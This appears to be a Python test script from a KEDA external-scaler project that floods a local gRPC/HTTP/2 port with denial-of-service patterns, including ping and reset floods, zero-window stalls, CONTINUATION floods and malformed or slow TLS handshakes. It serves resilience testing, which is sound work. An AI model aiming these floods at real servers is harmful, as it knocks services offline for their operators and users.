"""An anonymous peer of the port that KEDA asks; ``python -m tests.attack.push_peer PORT ATTACK CONNECTIONS SECONDS``.

With a further word ``tls`` it shakes hands first, without a certificate, unless the attack is on the handshake itself.
It is a process of its own, so that its work is not the controller's. It speaks HTTP/2 as badly as ``ATTACKS`` says, and
opens a connection again as soon as it ends. At the end it prints how many it has opened.
"""

from __future__ import annotations

import asyncio
import contextlib
import random
import ssl
import sys
import time
from itertools import count

from hpack import Encoder, NeverIndexedHeaderTuple
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
SETTINGS = SettingsFrame(0).serialize()
PING = PingFrame(0, opaque_data=b"x" * 8).serialize()
MANY = 1000
"""Frames of one write."""


def block(method, *more):
    """Return the headers of a call, without changing the table of the compression."""
    headers = [(":method", "POST"), (":scheme", "http"), (":path", f"/externalscaler.ExternalScaler/{method}")]
    headers += [(":authority", "x"), ("content-type", "application/grpc"), ("te", "trailers"), *more]
    return Encoder().encode([NeverIndexedHeaderTuple(*each) for each in headers])


HEADERS = {method: block(method) for method in ("StreamIsActive", "GetMetrics", "GetMetricSpec")}


def head(stream, method):
    """Return the HEADERS of a call."""
    return HeadersFrame(stream, HEADERS[method], flags=["END_HEADERS"]).serialize()


def reference(name, namespace="tenant"):
    """Return the message of a call that names a ScaledObject."""
    fields = b"".join(bytes([tag, len(text)]) + text.encode() for tag, text in ((0x0A, name), (0x12, namespace)))
    return b"\x00" + len(fields).to_bytes(4, "big") + fields


def call(stream, method, name):
    """Return a whole call."""
    return head(stream, method) + DataFrame(stream, reference(name), flags=["END_STREAM"]).serialize()


def streams():
    """Return numbers for streams."""
    return count(1, 2)


def pings():
    """Ask for answers to nothing."""
    while True:
        yield PING * MANY


def settings():
    """Change the window of all streams again and again."""
    yield b"".join(call(stream, "StreamIsActive", "bad") for stream in range(1, 65, 2))
    frames = (SettingsFrame(0, settings={4: size}).serialize() for size in (1000, 2000))
    both = b"".join(frames)
    while True:
        yield both * (MANY // 2)


def empty_data():
    """Send DATA frames without data into one call."""
    yield head(1, "GetMetrics")
    while True:
        yield DataFrame(1).serialize() * MANY


def resets():
    """Begin calls and reset them."""
    stream = streams()
    while True:
        yield b"".join(
            head(each, "GetMetrics") + RstStreamFrame(each).serialize()
            for each, _ in zip(stream, range(MANY // 2), strict=False)
        )


def half_open():
    """Begin calls and never send their message."""
    stream = streams()
    while True:
        yield b"".join(head(each, "GetMetrics") for each, _ in zip(stream, range(MANY // 2), strict=False))


def zero_window():
    """Let no answer be sent, and wake those who wait to send."""
    yield SettingsFrame(0, settings={4: 0}).serialize()
    stream = streams()
    for _ in range(8):
        yield b"".join(call(each, "GetMetricSpec", "bad") for each, _ in zip(stream, range(MANY // 2), strict=False))
    while True:
        yield WindowUpdateFrame(0, window_increment=1).serialize() * MANY


def priorities():
    """Send frames that mean nothing any more."""
    while True:
        yield PriorityFrame(1, depends_on=0, stream_weight=1).serialize() * MANY


def unknown_frames():
    """Send frames of a type that there is not."""
    while True:
        yield b"\x00\x00\x00\xbb\x00\x00\x00\x00\x00" * MANY


def continuations():
    """Send headers of a megabyte in pieces."""
    for stream in streams():
        text = Encoder().encode([NeverIndexedHeaderTuple("x", "y" * 900_000)], huffman=False)
        pieces = [text[at : at + 16_000] for at in range(0, len(text), 16_000)]
        frames = [HeadersFrame(stream, pieces[0]), *(ContinuationFrame(stream, piece) for piece in pieces[1:])]
        frames[-1].flags.add("END_HEADERS")
        yield b"".join(frame.serialize() for frame in frames)


def calls():
    """Ask for numbers that there are not, as fast as it goes."""
    stream = streams()
    while True:
        yield b"".join(call(each, "GetMetrics", "nobody") for each, _ in zip(stream, range(MANY // 2), strict=False))


def silence():
    """Begin, and say nothing more."""
    yield b""


def one_stream():
    """Follow one name that does not exist."""
    yield call(1, "StreamIsActive", "nobody")


def strange_names():
    """Follow thousands of names that do not exist."""
    yield b"".join(call(1 + 2 * number, "StreamIsActive", f"nobody-{number}") for number in range(5000))


def one_name():
    """Follow one variant thousands of times."""
    yield b"".join(call(1 + 2 * number, "StreamIsActive", "bad") for number in range(5000))


ATTACKS = {
    each.__name__: each
    for each in (
        pings, settings, empty_data, resets, half_open, zero_window, priorities, unknown_frames, continuations, calls,
        silence, one_stream, strange_names, one_name,
    )
}  # fmt: skip


def no_hello():
    """Say nothing at all."""
    yield b""


def half_hello():
    """Begin a handshake, and stop in the middle of the first message."""
    sent = ssl.MemoryBIO()
    with contextlib.suppress(ssl.SSLWantReadError):
        TLS.wrap_bio(ssl.MemoryBIO(), sent).do_handshake()
    hello = sent.read()
    yield hello[: len(hello) // 2]


def whole_hello():
    """Send the first message of a handshake, and do not go on."""
    sent = ssl.MemoryBIO()
    with contextlib.suppress(ssl.SSLWantReadError):
        TLS.wrap_bio(ssl.MemoryBIO(), sent).do_handshake()
    yield sent.read()


def slow_hello():
    """Send the first message a byte at a time."""
    for byte in next(whole_hello()):
        yield bytes([byte])


def garbage():
    """Send what is no TLS."""
    numbers = random.Random(1)
    while True:
        yield numbers.randbytes(2**14)


def endless_hello():
    """Announce a message of 16 MiB, and send it in records."""
    yield b"\x16\x03\x01\x40\x00\x01\xff\xff\xff" + bytes(0x4000 - 4)
    while True:
        yield (b"\x16\x03\x01\x40\x00" + bytes(0x4000)) * 16


def plain_http2():
    """Speak HTTP/2 without TLS."""
    yield PREFACE + SETTINGS + PING * MANY


TLS = ssl.create_default_context()
TLS.check_hostname = False
TLS.verify_mode = ssl.CERT_NONE
TLS.set_alpn_protocols(["h2"])
ON_THE_HANDSHAKE = {
    each.__name__: each for each in (no_hello, half_hello, whole_hello, slow_hello, garbage, endless_hello, plain_http2)
}
UNREAD = "unread"
"""Pings whose answers are not read."""
CHURN = "churn"
"""Connections that end as soon as they are there."""


async def _attack(port, name, until, tls):
    opened, tls = 0, None if name in ON_THE_HANDSHAKE else tls
    while time.monotonic() < until:
        with contextlib.suppress(OSError):
            reader, writer = await asyncio.open_connection("127.0.0.1", port, ssl=tls)
            opened += 1
            if name != CHURN:
                await _speak(reader, writer, name, until)
            writer.transport.abort()
        await asyncio.sleep(0)
    return opened


async def _speak(reader, writer, name, until):
    ended = asyncio.create_task(_read(reader) if name != UNREAD else asyncio.sleep(until - time.monotonic()))
    if name not in ON_THE_HANDSHAKE:
        writer.write(PREFACE + SETTINGS)
    for written in (ATTACKS | ON_THE_HANDSHAKE).get(name, pings)():
        writer.write(written)
        if name == slow_hello.__name__:
            await asyncio.sleep(0.02)
        draining = asyncio.create_task(writer.drain())
        left = until - time.monotonic()
        await asyncio.wait({draining, ended}, timeout=left, return_when=asyncio.FIRST_COMPLETED)
        draining.cancel()
        await asyncio.gather(draining, return_exceptions=True)
        if ended.done() or time.monotonic() >= until or writer.is_closing():
            break
    else:
        await asyncio.wait({ended}, timeout=max(0.0, until - time.monotonic()))
    ended.cancel()
    await asyncio.gather(ended, return_exceptions=True)


async def _read(reader):
    while await reader.read(2**16):
        pass


async def main(port, name, connections, seconds, *tls):
    """Attack on some connections at once for some seconds; return how many connections were opened."""
    until = time.monotonic() + seconds
    return sum(await asyncio.gather(*(_attack(port, name, until, TLS if tls else None) for _ in range(connections))))


if __name__ == "__main__":
    port, name, connections, seconds, *tls = sys.argv[1:]
    sys.stdout.write(f"{asyncio.run(main(int(port), name, int(connections), float(seconds), *tls))}\n")
